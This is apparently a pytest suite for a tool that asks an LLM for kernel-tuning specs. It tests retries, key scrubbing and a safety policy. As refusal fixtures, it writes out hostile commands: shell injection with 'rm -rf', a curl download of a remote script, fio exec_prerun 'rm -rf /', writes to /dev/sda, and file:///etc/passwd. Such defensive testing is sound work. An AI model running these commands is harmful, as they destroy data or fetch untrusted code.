"""The LLM strategist over real HTTP: the real `openai` client against a scripted
OpenAI-compatible server on 127.0.0.1 (tests/llm_server.py). No mocks.

Covers the repair loop, retries with backoff, the response_format fallback, the
error messages, token usage, that the API key never leaks, and that nothing
unsafe is ever returned."""

from __future__ import annotations

import copy
import json
import logging

import pytest

from cli_ai.spec import validation_problems
from cli_ai.strategist import EndpointError, NoUsableAnswerError, UnsafeAnswerError, make_plan
from cli_ai.strategist.base import assess_spec
from cli_ai.strategist.openai_strategist import (
    OpenAIStrategist,
    Scrubber,
    display_url,
    extract_json,
    forget_format_choices,
    remembered_format,
)
from cli_ai.strategist.profile import gather_profile

from .llm_server import Delay, Reply, ScriptedLLM, Status, free_port, listening_socket

KEY = "sk-test-key-0123456789abcdef"
GOAL = "my postgres stalls on writes"
# Something listening where GOOD's pgbench connects, for the runnable-benchmark
# rule (plan_rules): open for the whole module, closed by the OS at exit.
_DB_LISTENER = listening_socket()
DB_PORT = str(_DB_LISTENER.getsockname()[1])

GOOD = {
    "workload_name": "PostgreSQL OLTP",
    "description": "Dirty-page writeback bursts stall commits; pgbench measures the server.",
    "target": "sysctl",
    "reward_metric": "transactions_per_second",
    "benchmark": {"runner": "pgbench", "args": ["-h", "127.0.0.1", "-p", DB_PORT, "-c", "16", "-j", "2", "-T", "20", "testdb"]},
    "action_space": [
        {"param": "vm.dirty_ratio", "type": "int", "min": 5, "max": 40},
        {"param": "vm.dirty_background_ratio", "type": "int", "min": 1, "max": 20},
        {"param": "vm.swappiness", "type": "int", "min": 0, "max": 30},
    ],
    "training_config": {"algorithm": "ppo", "budget": 30},
}


def variant(change) -> dict:
    data = copy.deepcopy(GOOD)
    change(data)
    return data


def _schema_bad(d):
    d["action_space"][0]["min"] = "5"
    d["benchmark_cmd"] = "pgbench"


def _shell(d):
    del d["benchmark"]
    d["benchmark_command"] = "pgbench -c 10 -T 5 testdb; rm -rf /tmp/x"


SCHEMA_BAD = variant(_schema_bad)
OUTSIDE_CATALOGUE = variant(lambda d: d["action_space"].append({"param": "vm.nr_hugepages", "type": "int", "min": 0, "max": 512}))
RANGE_OUTSIDE = variant(lambda d: d["action_space"][0].update(max=90))
SHELL_INJECTION = variant(_shell)
FIO_ON_A_DEVICE = variant(
    lambda d: d.update(
        reward_metric="write_bw_kib_s",
        benchmark={"runner": "fio", "args": ["--name=x", "--filename=/dev/sda", "--rw=write", "--output-format=json"]},
    )
)
ANY_PROGRAM = variant(lambda d: (d.pop("benchmark"), d.update(benchmark_command="curl -o /tmp/x http://example.invalid/x.sh")))
COMMAND_TARGET = {
    "workload_name": "flags",
    "target": "command",
    "reward_metric": "score",
    "benchmark_command": "python3 -c {code}",
    "action_space": [{"param": "code", "type": "enum", "values": ["print(1)", "print(2)"]}],
}
UNSAFE = {
    "outside_catalogue": OUTSIDE_CATALOGUE,
    "range_outside": RANGE_OUTSIDE,
    "shell_injection": SHELL_INJECTION,
    "fio_on_a_device": FIO_ON_A_DEVICE,
    "any_program": ANY_PROGRAM,
    "command_target": COMMAND_TARGET,
}


@pytest.fixture(scope="module")
def profile():
    return gather_profile()


@pytest.fixture(autouse=True)
def _fresh_format_memory():
    forget_format_choices()
    yield
    forget_format_choices()


@pytest.fixture
def llm():
    with ScriptedLLM(api_key=KEY) as server:
        yield server


def strategist(llm, **kw) -> OpenAIStrategist:
    kw.setdefault("model", "test-model")
    kw.setdefault("api_key", KEY)
    kw.setdefault("retry_backoff", 0.001)
    kw.setdefault("timeout", 10)
    kw.setdefault("base_url", llm.url)
    return OpenAIStrategist(**kw)


def js(data) -> str:
    return json.dumps(data)


# --------------------------------------------------------------------------- the happy path


def test_good_answer_is_planned_with_structured_output(llm, profile):
    llm.push(Reply(js(GOOD), prompt_tokens=1200, completion_tokens=180))
    plan = strategist(llm).plan(GOAL, profile)
    assert plan.provider == "openai" and plan.model == "test-model" and plan.repairs == 0
    assert plan.spec_dict == GOOD and plan.spec.params == ["vm.dirty_ratio", "vm.dirty_background_ratio", "vm.swappiness"]
    assert plan.response_format == "json_schema"
    assert plan.usage["prompt_tokens"] == 1200 and plan.usage["completion_tokens"] == 180 and plan.usage["total_tokens"] == 1380
    assert any("model's rationale: Dirty-page writeback" in line for line in plan.reasoning)

    (req,) = llm.chat_requests
    assert req.headers["authorization"] == f"Bearer {KEY}"
    rf = req.body["response_format"]
    assert rf["type"] == "json_schema" and rf["json_schema"]["name"] == "tuning_spec"
    assert "action_space" in rf["json_schema"]["schema"]["properties"]
    assert "$schema" not in rf["json_schema"]["schema"]
    system, user = req.messages
    assert system["role"] == "system" and "safe range" in system["content"]
    prompt = user["content"]
    assert "GOAL: my postgres stalls on writes" in prompt
    assert "MACHINE PROFILE" in prompt and f"kernel {profile.kernel}" in prompt
    relevant = prompt.split("SAFETY CATALOGUE: the entries that match this goal")[1].split("BENCHMARK RUNNERS")[0]
    # the retrieved catalogue entries with their safe ranges, symptoms and the benchmarks they move
    assert "vm.dirty_ratio | int | safe 1..40" in relevant
    assert "write stalls" in relevant and "fio_randwrite_sync" in relevant
    assert "net.core.somaxconn" not in relevant  # not a long list of every entry
    for absent in profile.absent_sysctls or ():
        assert f"- {absent} |" not in prompt  # not offered
        assert absent in prompt.split("Absent on this kernel (never use):")[1]


# --------------------------------------------------------------------------- repair loop


def test_schema_error_is_sent_back_and_the_fix_accepted(llm, profile):
    llm.push(Reply(js(SCHEMA_BAD), prompt_tokens=1000, completion_tokens=200), Reply(js(GOOD), prompt_tokens=1400, completion_tokens=190))
    plan = strategist(llm).plan(GOAL, profile)
    assert plan.repairs == 1 and plan.spec_dict == GOOD
    first, second = llm.chat_requests
    repair = second.last_user_message
    expected = validation_problems(SCHEMA_BAD)
    assert len(expected) >= 2
    for line in expected:
        assert f"- {line}" in repair
    assert "action_space[0].min: \"5\" is a string" in repair
    assert second.messages[-2] == {"role": "assistant", "content": js(SCHEMA_BAD)}
    assert second.messages[:2] == first.messages
    assert plan.usage["calls"] == [
        {"prompt_tokens": 1000, "completion_tokens": 200, "total_tokens": 1200},
        {"prompt_tokens": 1400, "completion_tokens": 190, "total_tokens": 1590},
    ]
    assert plan.usage["total_tokens"] == 2790
    assert any("answer 1 refused" in line for line in plan.reasoning)


def test_garbage_text_then_json_in_prose(llm, profile):
    llm.push(
        Reply("I would lower vm.dirty_ratio and raise the background ratio. Hope that helps!"),
        Reply("Sure, here is the spec:\n```json\n" + json.dumps(GOOD, indent=2) + "\n```\nLet me know."),
    )
    plan = strategist(llm).plan(GOAL, profile)
    assert plan.repairs == 1 and plan.spec_dict == GOOD
    assert "no JSON object found" in llm.chat_requests[1].last_user_message


def test_garbage_forever_is_no_usable_answer_and_auto_falls_back(llm, profile):
    llm.default = Reply("no idea, sorry")
    with pytest.raises(NoUsableAnswerError) as info:
        strategist(llm, max_repairs=2).plan(GOAL, profile)
    assert len(llm.chat_requests) == 3  # one answer + two repair rounds
    assert "gave no usable spec after 2 repair round(s)" in str(info.value)
    assert any("no JSON object found" in line for line in info.value.lines())
    assert info.value.usage["total_tokens"] == 3 * 150

    plan = make_plan(GOAL, base_url=llm.url, api_key=KEY, model="test-model", retry_backoff=0.001, profile=profile)
    assert plan.provider == "offline" and plan.template == "database_oltp"
    assert "gave no usable spec" in plan.fallback_reason and "planned offline instead" in plan.fallback_reason


def test_max_repairs_zero_means_one_answer(llm, profile):
    llm.default = Reply(js(SCHEMA_BAD))
    with pytest.raises(NoUsableAnswerError):
        strategist(llm, max_repairs=0).plan(GOAL, profile)
    assert len(llm.chat_requests) == 1


def test_answer_cut_off_at_token_limit_says_so(llm, profile):
    llm.push(Reply(js(GOOD)[:60], finish_reason="length"), Reply(js(GOOD)))
    plan = strategist(llm).plan(GOAL, profile)
    assert plan.repairs == 1
    assert "cut off at the token limit" in llm.chat_requests[1].last_user_message


@pytest.mark.parametrize("name", sorted(UNSAFE))
def test_unsafe_answer_goes_to_repair_with_its_error_lines(name, llm, profile):
    bad = UNSAFE[name]
    verdict = assess_spec(bad)
    assert verdict.unsafe and verdict.problems  # the checks really refuse it
    llm.push(Reply(js(bad)), Reply(js(GOOD)))
    plan = strategist(llm).plan(GOAL, profile)
    assert plan.spec_dict == GOOD and plan.repairs == 1
    repair = llm.chat_requests[1].last_user_message
    for line in verdict.problems:
        assert f"- {line}" in repair


def test_specific_refusals_read_well():
    assert any("vm.nr_hugepages is not in the safety catalogue" in p for p in assess_spec(OUTSIDE_CATALOGUE).problems)
    assert any("90 exceeds the safe maximum 40 for vm.dirty_ratio" in p for p in assess_spec(RANGE_OUTSIDE).problems)
    assert any("uses shell syntax (';')" in p for p in assess_spec(SHELL_INJECTION).problems)
    assert any("fio --filename is not allowed" in p for p in assess_spec(FIO_ON_A_DEVICE).problems)
    assert any("'curl' is not a benchmark the strategist may run" in p for p in assess_spec(ANY_PROGRAM).problems)
    assert any("target" in p for p in assess_spec(COMMAND_TARGET).problems)


@pytest.mark.parametrize("name", sorted(UNSAFE))
def test_unsafe_answer_never_repaired_is_never_returned(name, llm, profile):
    llm.default = Reply(js(UNSAFE[name]))
    with pytest.raises(UnsafeAnswerError) as info:
        strategist(llm).plan(GOAL, profile)
    assert len(llm.chat_requests) == 3
    assert "gave an unsafe spec after 2 repair round(s)" in str(info.value)
    assert info.value.exit_code == 3  # refused by safety
    # auto mode does not paper over an unsafe answer with the offline plan
    with pytest.raises(UnsafeAnswerError):
        make_plan(GOAL, base_url=llm.url, api_key=KEY, model="test-model", retry_backoff=0.001, profile=profile)


def test_unsafe_then_garbage_is_still_unsafe(llm, profile):
    llm.push(Reply(js(SHELL_INJECTION)), Reply("hmm"), Reply("still nothing"))
    with pytest.raises(UnsafeAnswerError):
        strategist(llm).plan(GOAL, profile)


# --------------------------------------------------------------------------- retries


def test_429_and_503_are_retried_with_exponential_backoff(llm, profile):
    llm.push(Status(429, "Rate limit reached"), Status(503, "overloaded"), Reply(js(GOOD)))
    sleeps: list[float] = []
    s = strategist(llm, retry_backoff=0.01, retry_backoff_max=1.0, max_retries=3, sleep=sleeps.append)
    plan = s.plan(GOAL, profile)
    assert plan.spec_dict == GOOD
    assert sleeps == [0.01, 0.02]
    assert plan.usage["requests"] == 3 and plan.usage["retries"] == 2
    assert len(plan.usage["calls"]) == 1  # one answer, token usage counted once


def test_retry_after_header_is_honoured(llm, profile):
    llm.push(Status(429, "slow down", headers={"retry-after": "0.05"}), Reply(js(GOOD)))
    sleeps: list[float] = []
    strategist(llm, retry_backoff=0.001, sleep=sleeps.append).plan(GOAL, profile)
    assert sleeps == [0.05]


def test_retries_are_bounded(llm, profile):
    llm.default = Status(429, "Rate limit reached for requests")
    with pytest.raises(EndpointError) as info:
        strategist(llm, max_retries=2).plan(GOAL, profile)
    assert len(llm.chat_requests) == 3
    msg = str(info.value)
    assert "kept rate-limiting the requests (429: Rate limit reached for requests) after 2 retries" in msg
    assert llm.url in msg


def test_500_exhausted_names_status(llm, profile):
    llm.default = Status(500, "boom")
    with pytest.raises(EndpointError, match=r"failed with HTTP 500 \(boom\) after 1 retry"):
        strategist(llm, max_retries=1).plan(GOAL, profile)


def test_timeout_is_retried_then_reported_when_asked(llm, profile):
    llm.push(Delay(1.0, Reply(js(GOOD))), Delay(1.0, Reply(js(GOOD))))
    with pytest.raises(EndpointError) as info:
        strategist(llm, timeout=0.2, max_retries=1, retry_timeouts=True).plan(GOAL, profile)
    assert f"the LLM endpoint {llm.url} did not answer within 0.2 s after 1 retry" in str(info.value)
    assert len(llm.chat_requests) == 2


def test_a_local_servers_timeout_is_not_retried(llm, profile):
    # 127.0.0.1 is local: the server would still be computing the first request
    llm.push(Delay(1.0, Reply(js(GOOD))), Delay(1.0, Reply(js(GOOD))))
    with pytest.raises(EndpointError) as info:
        strategist(llm, timeout=0.2, max_retries=3).plan(GOAL, profile)
    assert f"did not answer within 0.2 s (not retried: a local server keeps computing" in str(info.value)
    assert len(llm.chat_requests) == 1


# --------------------------------------------------------------------------- errors


def test_bad_key_is_one_line_without_the_key(llm, profile, caplog):
    caplog.set_level(logging.DEBUG)
    wrong = "sk-wrong-SECRET-abcdef123456"
    with pytest.raises(EndpointError) as info:
        strategist(llm, api_key=wrong).plan(GOAL, profile)
    msg = str(info.value)
    assert msg.startswith(f"the LLM endpoint {llm.url} rejected the API key (401 Unauthorized")
    assert "check OPENAI_API_KEY" in msg and "\n" not in msg
    assert len(llm.chat_requests) == 1  # a 401 is not retried
    # the server echoed the whole key back; none of it reaches us
    leaked = [msg, *info.value.lines(), caplog.text, "\n".join(getattr(info.value, "reasoning", []))]
    for text in leaked:
        assert wrong not in text and "SECRET-abcdef" not in text
    plan = make_plan(GOAL, base_url=llm.url, api_key=wrong, model="test-model", profile=profile)
    assert plan.provider == "offline" and "401" in plan.fallback_reason
    assert wrong not in json.dumps(plan.to_dict())


def test_unknown_model(llm, profile):
    with pytest.raises(EndpointError) as info:
        strategist(llm, model="gpt-nonexistent").plan(GOAL, profile)
    assert f"the LLM endpoint {llm.url} does not know the model 'gpt-nonexistent' (404" in str(info.value)
    assert "--model or CLI_AI_MODEL" in str(info.value)


def test_wrong_base_path_is_not_mistaken_for_a_model(llm, profile):
    base = llm.url.removesuffix("/v1")
    with pytest.raises(EndpointError, match=r"check the base URL \(OpenAI-compatible servers usually end in /v1\)"):
        strategist(llm, base_url=base).plan(GOAL, profile)


def test_unreachable_endpoint_names_the_base_url_without_credentials(profile):
    port = free_port()
    base = f"http://user:sk-pass-in-url-123456@127.0.0.1:{port}/v1?api-key=sk-query-secret-999"
    sleeps: list[float] = []
    s = OpenAIStrategist(base_url=base, api_key=KEY, model="m", max_retries=2, retry_backoff=0.001, sleep=sleeps.append)
    with pytest.raises(EndpointError) as info:
        s.plan(GOAL, profile)
    msg = str(info.value)
    assert msg.startswith(f"cannot reach the LLM endpoint http://127.0.0.1:{port}/v1")
    assert "after 2 retries" in msg and "OPENAI_BASE_URL" in msg
    assert "pass-in-url" not in msg and "query-secret" not in msg and KEY not in msg
    assert len(sleeps) == 2

    plan = make_plan(GOAL, base_url=f"http://127.0.0.1:{port}/v1", api_key=KEY, max_retries=0, profile=profile)
    assert plan.provider == "offline"
    assert plan.fallback_reason.startswith(f"cannot reach the LLM endpoint http://127.0.0.1:{port}/v1")


def test_provider_openai_without_configuration(profile):
    with pytest.raises(EndpointError, match="no LLM endpoint configured"):
        make_plan(GOAL, provider="openai", profile=profile)


# --------------------------------------------------------------------------- response formats


def test_json_schema_rejected_falls_back_to_json_object_and_is_remembered(profile):
    with ScriptedLLM(api_key=KEY, reject_formats=("json_schema",)) as llm:
        llm.push(Reply(js(GOOD)), Reply(js(GOOD)))
        plan = strategist(llm).plan(GOAL, profile)
        assert plan.response_format == "json_object"
        assert [r.response_format for r in llm.chat_requests] == ["json_schema", "json_object"]
        assert any("rejected response_format json_schema" in line for line in plan.reasoning)
        assert remembered_format(llm.url, "test-model") == "json_object"
        # a new strategist for the same endpoint and model starts with json_object
        strategist(llm).plan(GOAL, profile)
        assert [r.response_format for r in llm.chat_requests] == ["json_schema", "json_object", "json_object"]


def test_both_structured_formats_rejected_falls_back_to_text(profile):
    with ScriptedLLM(api_key=KEY, reject_formats=("json_schema", "json_object")) as llm:
        llm.push(Reply("Here you go:\n```\n" + js(GOOD) + "\n```"))
        plan = strategist(llm).plan(GOAL, profile)
        assert plan.response_format == "text" and plan.spec_dict == GOOD
        assert [r.response_format for r in llm.chat_requests] == ["json_schema", "json_object", None]


def test_a_400_unrelated_to_the_format_is_an_error(llm, profile):
    llm.push(Status(400, "messages: too long for the context window"))
    with pytest.raises(EndpointError, match=r"rejected the request \(HTTP 400: messages: too long"):
        strategist(llm).plan(GOAL, profile)
    assert len(llm.chat_requests) == 1


# --------------------------------------------------------------------------- configuration and secrets


def test_environment_configures_the_endpoint(llm, profile, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", llm.url)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("CLI_AI_MODEL", "test-model")
    llm.push(Reply(js(GOOD)))
    plan = make_plan(GOAL, profile=profile, retry_backoff=0.001)
    assert plan.provider == "openai" and plan.model == "test-model" and plan.fallback_reason is None
    assert plan.base_url == llm.url
    (req,) = llm.chat_requests
    assert req.body["model"] == "test-model" and req.headers["authorization"] == f"Bearer {KEY}"


def test_local_server_without_a_key(profile):
    with ScriptedLLM(api_key=None) as llm:
        llm.push(Reply(js(GOOD)))
        plan = make_plan(GOAL, base_url=llm.url, model="test-model", profile=profile)
        assert plan.provider == "openai"
        assert llm.chat_requests[0].headers["authorization"] == "Bearer no-key-needed"


def test_key_never_appears_in_results_logs_or_prompts(llm, profile, caplog):
    caplog.set_level(logging.DEBUG)
    llm.push(Status(429, f"slow down {KEY}"), Reply(js(RANGE_OUTSIDE)), Reply(js(GOOD)))
    plan = strategist(llm).plan(GOAL, profile)
    assert KEY not in json.dumps(plan.to_dict())
    assert KEY not in "\n".join(plan.reasoning)
    assert KEY not in caplog.text
    for req in llm.requests:
        assert KEY not in json.dumps(req.body)  # only in the Authorization header
    llm.default = Status(500, f"internal error while checking key {KEY}")
    with pytest.raises(EndpointError) as info:
        strategist(llm, max_retries=0).plan(GOAL, profile)
    assert KEY not in str(info.value) and "***" in str(info.value)


def test_scrubber_and_display_url():
    scrub = Scrubber("supersecretvalue")
    assert scrub("key supersecretvalue here") == "key *** here"
    assert scrub("Incorrect API key provided: sk-proj-abc123XYZ") == "Incorrect API key provided: sk-***"
    assert scrub("Authorization: Bearer abc.def") == "Authorization: Bearer ***"
    assert scrub("disk-heavy workload") == "disk-heavy workload"  # no false positives on 'sk-'
    assert display_url("https://u:p@example.com:8443/v1/?key=1") == "https://example.com:8443/v1"


# --------------------------------------------------------------------------- extraction


@pytest.mark.parametrize(
    "text",
    [
        js(GOOD),
        "```json\n" + js(GOOD) + "\n```",
        "The plan:\n" + js(GOOD) + "\nThat's it {not json}",
        "<think>maybe {\"a\": 1}? no.</think>\n" + js(GOOD),
        '{"spec": ' + js(GOOD) + "}",
        "first {broken: json} then " + js(GOOD),
    ],
)
def test_extract_json_finds_the_spec(text):
    data, problem = extract_json(text)
    assert problem is None and data == GOOD


def test_extract_json_reports_problems():
    assert extract_json("")[1].startswith("(answer): empty")
    assert "no JSON object found" in extract_json("just words")[1]
    _, problem = extract_json('{"workload_name": "x", "action_space": [}')
    assert problem.startswith("(answer): line 1, column")


# --------------------------------------------------------------------------- the plan policy


def _with_benchmark(runner, args, metric):
    return variant(lambda d: d.update(reward_metric=metric, benchmark={"runner": runner, "args": args}))


@pytest.mark.parametrize(
    "runner,args,metric,fragment",
    [
        ("pgbench", ["-i", "testdb"], "transactions_per_second", "pgbench -i is not allowed"),
        ("pgbench", ["-f", "/tmp/evil.sql", "testdb"], "transactions_per_second", "can execute shell commands"),
        ("wrk", ["-s", "x.lua", "http://127.0.0.1/"], "requests_per_second", "wrk -s is not allowed"),
        ("wrk", ["-c10", "file:///etc/passwd"], "requests_per_second", "exactly one http:// or https:// URL"),
        ("redis-benchmark", ["-q", "FLUSHALL"], "requests_per_second", "custom commands"),
        ("sysbench", ["/tmp/evil.lua", "run"], "operations_per_second", "built-in test first"),
        ("sysbench", ["fileio", "--file-test-mode=seqwr", "cleanup"], "operations_per_second", "must end with the command 'run'"),
        ("fio", ["--name=x", "--directory=/etc", "--rw=write"], "write_iops", "fio --directory is not allowed"),
        ("fio", ["--name=x", "--exec_prerun=rm -rf /"], "write_iops", "runs a shell command"),
        ("fio", ["--name=x", "--ioengine=exec"], "write_iops", "--ioengine=exec is not allowed"),
        ("fio", ["job.fio"], "write_iops", "job files are not allowed"),
        ("tcp-accept", ["--json"], "connections_per_second", "is not one of --connections"),
        ("pgbench", ["-c", "4", "testdb"], "tps_made_up", "is not a number pgbench reports"),
    ],
)
def test_policy_refuses_destructive_benchmark_arguments(runner, args, metric, fragment):
    problems = assess_spec(_with_benchmark(runner, args, metric)).problems
    assert any(fragment in p for p in problems), problems


@pytest.mark.parametrize(
    "runner,args,metric",
    [
        ("pgbench", ["-c", "16", "-j", "4", "-T", "20", "-S", "testdb"], "tps"),
        ("wrk", ["-t2", "-c", "100", "-d", "10s", "--latency", "-H", "Connection: close", "http://127.0.0.1:8080/"], "requests_per_second"),
        ("redis-benchmark", ["-h", "127.0.0.1", "-q", "-t", "set,get", "--csv"], "rps"),
        ("sysbench", ["memory", "--threads=2", "--memory-block-size=1M", "run"], "operations_per_second"),
        ("fio", ["--name=x", "--rw=randrw", "--bs=4k", "--output-format=json"], "read_iops"),
        ("tcp-accept", ["--connections", "500", "--concurrency=64"], "connections_per_second"),
    ],
)
def test_policy_accepts_ordinary_benchmarks(runner, args, metric):
    assert assess_spec(_with_benchmark(runner, args, metric)).problems == []
